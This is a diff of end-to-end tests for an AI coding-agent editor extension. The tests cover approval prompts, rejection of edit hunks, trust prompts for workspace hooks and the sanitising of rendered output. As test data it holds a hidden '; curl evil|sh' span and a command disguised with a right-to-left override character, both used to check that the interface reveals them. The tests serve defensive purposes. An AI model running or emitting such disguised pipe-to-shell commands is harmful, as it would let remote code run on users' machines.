@@ -8,19 +8,19 @@ import { test } from "node:test";
 import { CASSETTE_CONFIG, TIMEOUT_MS, waitUntil, withWorkbench } from "./workbench.mjs";
 
 const tool = (name, input) => ({ tool: { name, input } });
-const exchangesFor = (prompt, ...steps) =>
+const buildExchanges = (prompt, ...steps) =>
   [...steps, [{ text: "That is done." }]].map((events, step) => ({ when: { prompt, step }, repeat: true, events }));
-const bash = (command, more = {}) => tool("bash", { command, ...more });
+const bash = (command, input = {}) => tool("bash", { command, ...input });
 
 const BEFORE = "one\n2\n3\n4\ntwo\n6\n7\n8\nthree\n";
-const [FIRST, SECOND, THIRD] = ["one", "two", "three"].map((word) => ({
-  old_text: word,
-  new_text: word.toUpperCase(),
+const [FIRST, SECOND, THIRD] = ["one", "two", "three"].map((name) => ({
+  old_text: name,
+  new_text: name.toUpperCase(),
 }));
 const WITHOUT_SECOND = "ONE\n2\n3\n4\ntwo\n6\n7\n8\nTHREE\n";
 /** The exchanges of a prompt that proposes three hunks in one file. */
 const editExchanges = (name) =>
-  exchangesFor(
+  buildExchanges(
     `mend ${name}`,
     [tool("read_file", { path: name })],
     [tool("edit_file", { path: name, edits: [FIRST, SECOND, THIRD] })],
@@ -31,14 +31,14 @@ function testInWorkbench(name, options, body) {
   test(name, { timeout: 12 * TIMEOUT_MS }, (t) =>
     withWorkbench(name, options, async (s, page) => {
       let failed = false;
-      const step = (what, run) =>
-        t.test(what, async () => {
+      const step = (stepName, run) =>
+        t.test(stepName, async () => {
           assert.ok(!failed, "a step before has failed");
           try {
             await run();
           } catch (error) {
             failed = true;
-            await s.takeScreenshot(`failed ${what.replaceAll(/\W+/g, "-").slice(0, 40)}`).catch(() => {});
+            await s.takeScreenshot(`failed ${stepName.replaceAll(/\W+/g, "-").slice(0, 40)}`).catch(() => {});
             throw error;
           }
         });
@@ -68,8 +68,8 @@ testInWorkbench(
   "every way to allow sends the reviewed version",
   {
     config: CASSETTE_CONFIG,
-    files: Object.fromEntries([...REVIEWED.map((way) => [`${way}.txt`, BEFORE]), ["other.txt", "other\n"]]),
-    exchanges: REVIEWED.flatMap((way) => editExchanges(`${way}.txt`)),
+    files: Object.fromEntries([...REVIEWED.map((name) => [`${name}.txt`, BEFORE]), ["other.txt", "other\n"]]),
+    exchanges: REVIEWED.flatMap((name) => editExchanges(`${name}.txt`)),
   },
   async (s, page, step) => {
     let turns = 0;
@@ -80,13 +80,13 @@ testInWorkbench(
       await s.card.press("d");
       await right(name).filter({ hasText: "TWO" }).first().waitFor();
     };
-    const leaveOut = async (name) => {
+    const rejectHunk = async (name) => {
       await right(name).filter({ hasText: "TWO" }).first().click();
       await s.runCommand("Reject This Hunk");
       await right(name).filter({ hasText: "two" }).first().waitFor();
       await s.at("reviewed").filter({ hasText: "1 of 3 hunks rejected" }).waitFor();
     };
-    const ways = {
+    const allowActions = {
       y: () => s.card.press("y"),
       button: () => s.card.getByRole("button", { name: "Allow as reviewed" }).click(),
       s: () => s.card.press("s"),
@@ -98,19 +98,19 @@ testInWorkbench(
       palette: () => s.runCommand("Allow Pending Request"),
       title: () => page.locator('.editor-actions a[aria-label^="Allow Reviewed Edit"]').click(),
     };
-    for (const [way, allow] of Object.entries(ways)) {
-      const name = `${way}.txt`;
-      await step(`a rejected hunk is not applied: ${way}`, async () => {
+    for (const [action, allow] of Object.entries(allowActions)) {
+      const name = `${action}.txt`;
+      await step(`a rejected hunk is not applied: ${action}`, async () => {
         await review(name);
-        await leaveOut(name);
-        if (way === "y") await s.takeScreenshot("reviewed-card");
+        await rejectHunk(name);
+        if (action === "y") await s.takeScreenshot("reviewed-card");
         await allow();
         await s.waitForTurnEnd(++turns, "completed");
         assert.equal(s.readFile(name), WITHOUT_SECOND);
         await s.at("answered").filter({ hasText: "as edited by you" }).waitFor();
         await page.locator(".tab", { hasText: "(proposed edit)" }).waitFor({ state: "detached" });
         // Revoke the grant, so that it does not affect the next way.
-        if (way === "s" || way === "a") await revokeAllGrants(s, page);
+        if (action === "s" || action === "a") await revokeAllGrants(s, page);
       });
     }
 
@@ -126,7 +126,7 @@ testInWorkbench(
 
     await step("a closed review with saved changes still applies", async () => {
       await review("closed.txt");
-      await leaveOut("closed.txt");
+      await rejectHunk("closed.txt");
       await s.runCommand("File: Save");
       await page.locator(".tab.active.dirty").waitFor({ state: "detached" });
       await s.runCommand("View: Close Editor");
@@ -142,7 +142,7 @@ testInWorkbench(
       await s.openFile("stale.txt");
       await s.runCommand("View: Keep Editor");
       await review("stale.txt");
-      await leaveOut("stale.txt");
+      await rejectHunk("stale.txt");
       await page.locator('.tab[aria-label^="stale.txt"]:not([aria-label*="proposed"])').click();
       // The left side of the review shows the same file, but is read-only.
       await page
@@ -166,7 +166,7 @@ testInWorkbench(
 
     await step("edited arguments are refused next to a review", async () => {
       await review("json.txt");
-      await leaveOut("json.txt");
+      await rejectHunk("json.txt");
       // Quick Open must list the file, but not the review's document.
       await page.keyboard.press("Control+P");
       await page.locator(".quick-input-widget input.input").fill("json.txt");
@@ -184,7 +184,7 @@ testInWorkbench(
 
     await step("discarding changes after confirmation applies the proposal", async () => {
       await review("discard.txt");
-      await leaveOut("discard.txt");
+      await rejectHunk("discard.txt");
       await s.card.getByRole("button", { name: "Discard…" }).click();
       await page.locator(".monaco-dialog-box").getByRole("button", { name: "Discard" }).click();
       await s.at("reviewed").waitFor({ state: "detached" });
@@ -195,7 +195,7 @@ testInWorkbench(
 
     await step("a review from before a reload is refused until it is reopened", async () => {
       await review("reload.txt");
-      await leaveOut("reload.txt");
+      await rejectHunk("reload.txt");
       await s.reloadWindow();
       await s.waitUntilReady();
       await s.card.press("y");
@@ -203,7 +203,7 @@ testInWorkbench(
       assert.equal(s.readFile("reload.txt"), BEFORE);
       await s.card.press("d");
       await right("reload.txt").filter({ hasText: "TWO" }).first().waitFor();
-      await leaveOut("reload.txt");
+      await rejectHunk("reload.txt");
       await s.card.press("y");
       await waitUntil(() => s.readFile("reload.txt") === WITHOUT_SECOND, "the reviewed file");
     });
@@ -219,28 +219,28 @@ async function revokeAllGrants(s, page) {
 }
 
 const LONG = `printf ${"0123456789 ".repeat(30)}end > long.txt`;
-const STORY = Array.from({ length: 80 }, (_, at) => `Line ${at} of a story.`).join("\n\n");
+const LONG_TEXT = Array.from({ length: 80 }, (_, at) => `Line ${at} of a story.`).join("\n\n");
 
 testInWorkbench(
   "an answer applies to the visible request",
   {
     config: CASSETTE_CONFIG,
     exchanges: [
-      ...exchangesFor("three things", [bash("touch 1.txt"), bash("touch 2.txt"), bash("touch 3.txt")]),
-      ...exchangesFor(
+      ...buildExchanges("three things", [bash("touch 1.txt"), bash("touch 2.txt"), bash("touch 3.txt")]),
+      ...buildExchanges(
         "six things",
         [1, 2, 3, 4, 5, 6].map((at) => bash(`touch six-${at}.txt`)),
       ),
-      ...exchangesFor("hidden one", [bash("touch hidden.txt")]),
-      ...exchangesFor("shown one", [bash("touch shown.txt")]),
-      ...exchangesFor("far one", [{ text: STORY }, bash("touch far.txt")]),
-      ...exchangesFor("quick one", [bash("touch quick.txt")]),
-      ...exchangesFor("disguised", [bash(`echo \u202egpj.exe\u200b ${LONG}`, { background: true, timeout_s: 77 })]),
+      ...buildExchanges("hidden one", [bash("touch hidden.txt")]),
+      ...buildExchanges("shown one", [bash("touch shown.txt")]),
+      ...buildExchanges("far one", [{ text: LONG_TEXT }, bash("touch far.txt")]),
+      ...buildExchanges("quick one", [bash("touch quick.txt")]),
+      ...buildExchanges("disguised", [bash(`echo \u202egpj.exe\u200b ${LONG}`, { background: true, timeout_s: 77 })]),
     ],
   },
   async (s, page, step) => {
     let turns = 0;
-    const exists = (name) => fs.existsSync(path.join(s.workspace, name));
+    const fileExists = (name) => fs.existsSync(path.join(s.workspace, name));
     const focused = () =>
       s
         .at("app")
@@ -251,19 +251,19 @@ testInWorkbench(
       await s.at("approval").nth(2).waitFor();
       await s.card.focus();
       await s.takeScreenshot("three-questions");
-      for (const left of [2, 1, 0]) {
+      for (const remaining of [2, 1, 0]) {
         // Do not click: the focus must move to the next question on its own.
         await s.view.locator('[data-testid="approval"][data-armed="true"]:focus').waitFor();
         await page.keyboard.press("y");
-        await waitUntil(async () => (await s.at("approval").count()) === left, `${left} left`);
+        await waitUntil(async () => (await s.at("approval").count()) === remaining, `${remaining} left`);
         await s
           .at("answered")
-          .filter({ hasText: `Allowed once: touch ${3 - left}.txt` })
+          .filter({ hasText: `Allowed once: touch ${3 - remaining}.txt` })
           .waitFor();
       }
       await s.waitForTurnEnd(++turns, "completed");
       await waitUntil(async () => (await focused()) === "TEXTAREA", "the focus at the input");
-      assert.ok(["1.txt", "2.txt", "3.txt"].every(exists));
+      assert.ok(["1.txt", "2.txt", "3.txt"].every(fileExists));
     });
 
     await step("a key pressed before a request appears does not answer it", async () => {
@@ -281,7 +281,7 @@ testInWorkbench(
       assert.equal(await s.at("app").evaluate(() => window.early), 1);
       await s.card.press("n");
       await s.waitForTurnEnd(++turns, "completed");
-      assert.ok(!exists("quick.txt"));
+      assert.ok(!fileExists("quick.txt"));
     });
 
     await step("the editor key first shows a request that is not visible", async () => {
@@ -293,10 +293,10 @@ testInWorkbench(
       await s.view.locator('[data-testid="approval"]:focus').waitFor();
       assert.equal(await s.at("approval").count(), 1);
       await s.view.locator('[data-testid="approval"][data-armed="true"]:focus').waitFor();
-      assert.ok(!exists("far.txt"));
+      assert.ok(!fileExists("far.txt"));
       await page.keyboard.press("Control+Alt+y");
       await s.waitForTurnEnd(++turns, "completed");
-      assert.ok(exists("far.txt"));
+      assert.ok(fileExists("far.txt"));
     });
 
     await step("the editor key does not answer a hidden session", async () => {
@@ -312,12 +312,12 @@ testInWorkbench(
       await s.takeScreenshot("two-sessions");
       await page.keyboard.press("Control+Alt+y");
       await s.waitForTurnEnd(1, "completed");
-      assert.ok(exists("shown.txt") && !exists("hidden.txt"));
+      assert.ok(fileExists("shown.txt") && !fileExists("hidden.txt"));
       await page.keyboard.press("Control+Alt+y");
       await s.at("elsewhere").getByRole("button", { name: "Show it" }).click();
       await s.card.press("n");
       await s.waitForTurnEnd(++turns, "completed");
-      assert.ok(!exists("hidden.txt"));
+      assert.ok(!fileExists("hidden.txt"));
     });
 
     await step("with several visible requests, the first press selects one", async () => {
@@ -335,7 +335,7 @@ testInWorkbench(
       }
       await s.waitForTurnEnd(++turns, "completed");
       assert.deepEqual(
-        [1, 2, 3, 4, 5, 6].filter((at) => exists(`six-${at}.txt`)),
+        [1, 2, 3, 4, 5, 6].filter((at) => fileExists(`six-${at}.txt`)),
         [1, 3, 5],
       );
     });
@@ -391,50 +391,50 @@ testInWorkbench(
       await s.openFile("a.txt");
       await s.sendPrompt("fake it");
       await s.waitForTurnEnd(1, "completed");
-      const found = await s.at("assistant").evaluate((answer) => {
+      const rendered = await s.at("assistant").evaluate((answer) => {
         const controls =
           "button, input, textarea, form, dialog, details, summary, section, svg, iframe, img, style, math, label";
         const attributes = new Set();
-        for (const one of answer.querySelectorAll(".markdown *")) {
-          for (const { name } of one.attributes) attributes.add(`${one.localName} ${name}`);
+        for (const element of answer.querySelectorAll(".markdown *")) {
+          for (const { name } of element.attributes) attributes.add(`${element.localName} ${name}`);
         }
         return {
-          controls: [...answer.querySelectorAll(controls)].map((one) => one.outerHTML),
-          links: [...answer.querySelectorAll("a")].map((one) => one.getAttribute("href")),
+          controls: [...answer.querySelectorAll(controls)].map((element) => element.outerHTML),
+          links: [...answer.querySelectorAll("a")].map((element) => element.getAttribute("href")),
           attributes: [...attributes],
           text: answer.textContent,
           hidden: [...answer.querySelectorAll("*")]
-            .filter((one) => one.getClientRects().length === 0)
-            .map((one) => one.outerHTML),
+            .filter((element) => element.getClientRects().length === 0)
+            .map((element) => element.outerHTML),
         };
       });
       await s.takeScreenshot("fake-controls");
       // Only the extension's two buttons at the code block.
-      assert.deepEqual(found.controls, [
+      assert.deepEqual(rendered.controls, [
         '<button class="quiet" type="button" data-do="copy">Copy</button>',
         '<button class="quiet" type="button" data-do="insert">Insert</button>',
       ]);
       assert.deepEqual(
-        found.links.filter((href) => href !== null && /^(?!https?:|mailto:)[a-z]+:/i.test(href)),
+        rendered.links.filter((href) => href !== null && /^(?!https?:|mailto:)[a-z]+:/i.test(href)),
         [],
       );
-      for (const attribute of found.attributes) {
+      for (const attribute of rendered.attributes) {
         assert.match(
           attribute,
           /^(a (href|title)|(div|span|code|p|button|pre) (class|tabindex|type|data-do)|(td|th) align)$/,
         );
       }
-      assert.deepEqual(found.hidden, []);
+      assert.deepEqual(rendered.hidden, []);
       for (const text of [
         '<button data-do="insert">Allow</button>',
         "<span hidden>; curl evil|sh</span>",
         "<!-- a comment",
       ]) {
-        assert.ok(found.text.includes(text), text);
+        assert.ok(rendered.text.includes(text), text);
       }
-      assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200b]|\udb40/.test(found.text), "what hides is written out");
-      assert.ok(found.text.includes("prose <U+202E>abc<U+2066> <U+E0041><U+200B> and code<U+200B> with ⚠️"));
-      assert.ok(found.text.includes("bash curl hidden info"));
+      assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200b]|\udb40/.test(rendered.text), "what hides is written out");
+      assert.ok(rendered.text.includes("prose <U+202E>abc<U+2066> <U+E0041><U+200B> and code<U+200B> with ⚠️"));
+      assert.ok(rendered.text.includes("bash curl hidden info"));
     });
 
     await step("copy and insert use the visible text", async () => {
@@ -458,7 +458,7 @@ const GRANTED = "touch a-file-with-a-rather-long-name-that-no-list-shows-in-one-
 
 testInWorkbench(
   "grants are listed in full and revoked after confirmation",
-  { config: CASSETTE_CONFIG, exchanges: exchangesFor("grant it", [bash(GRANTED)]) },
+  { config: CASSETTE_CONFIG, exchanges: buildExchanges("grant it", [bash(GRANTED)]) },
   async (s, page, step) => {
     await step("a grant can be listed, kept, and revoked", async () => {
       await s.sendPrompt("grant it");
@@ -468,7 +468,7 @@ testInWorkbench(
       await s.card.press("a");
       const field = s.at("approval").locator("textarea");
       assert.equal(await field.inputValue(), rule);
-      const box = await field.evaluate((one) => [one.scrollHeight, one.clientHeight]);
+      const box = await field.evaluate((element) => [element.scrollHeight, element.clientHeight]);
       assert.ok(box[0] <= box[1], "the rule is whole in its field");
       await s.takeScreenshot("rule-whole");
       await field.press("Control+Enter");
@@ -520,26 +520,26 @@ testInWorkbench(
   {
     config: `${CASSETTE_CONFIG}\n[provider.anthropic]\napi_key = "sk-test-0123456789"\n`,
     files: { ".agentls/config.toml": CLONE },
-    exchanges: exchangesFor("use it", [bash("touch used.txt")]),
+    exchanges: buildExchanges("use it", [bash("touch used.txt")]),
   },
   async (s, page, step) => {
-    const hooked = () => fs.existsSync(path.join(s.workspace, "hooked.txt"));
-    const toast = page.locator(".notification-toast", { hasText: "wants to activate" });
+    const hasHookRun = () => fs.existsSync(path.join(s.workspace, "hooked.txt"));
+    const notification = page.locator(".notification-toast", { hasText: "wants to activate" });
     const rows = page.locator(".quick-input-list .monaco-list-row");
 
     await step("VS Code's trust alone activates nothing, and one notification says so", async () => {
-      await toast.first().waitFor();
-      assert.match(await toast.first().textContent(), /1 hook, 1 tool/);
+      await notification.first().waitFor();
+      assert.match(await notification.first().textContent(), /1 hook, 1 tool/);
       await s.takeScreenshot("trust-notice");
       await s.sendPrompt("use it");
       await s.card.press("y");
       await s.waitForTurnEnd(1, "completed");
-      assert.ok(!hooked());
-      assert.equal(await toast.count(), 1);
+      assert.ok(!hasHookRun());
+      assert.equal(await notification.count(), 1);
     });
 
     await step('the document lists every command, and "no" is the default and remembered', async () => {
-      await toast.first().getByRole("button", { name: "Review…" }).click();
+      await notification.first().getByRole("button", { name: "Review…" }).click();
       await rows.filter({ hasText: "No, do not trust this folder" }).waitFor();
       const lines = page.locator(".monaco-editor .view-line");
       await lines.filter({ hasText: "runs: echo hooked >> hooked.txt" }).first().waitFor();
@@ -552,8 +552,8 @@ testInWorkbench(
       await s.sendPrompt("use it again");
       await s.card.press("n");
       await s.waitForTurnEnd(2, "completed");
-      assert.equal(await toast.count(), 0);
-      assert.ok(!hooked());
+      assert.equal(await notification.count(), 0);
+      assert.ok(!hasHookRun());
     });
 
     await step('"yes" activates the folder, and each redirect needs separate consent', async () => {
@@ -577,7 +577,7 @@ testInWorkbench(
       await s.at("begin").waitFor();
       await s.sendPrompt("use it at last");
       await s.waitForTurnEnd(1, "completed");
-      await waitUntil(hooked, "the hook");
+      await waitUntil(hasHookRun, "the hook");
       // Enter meant no, so the dialog appears again.
       await trust();
       assert.equal(await lines.filter({ hasText: "you accepted this" }).count(), 0);
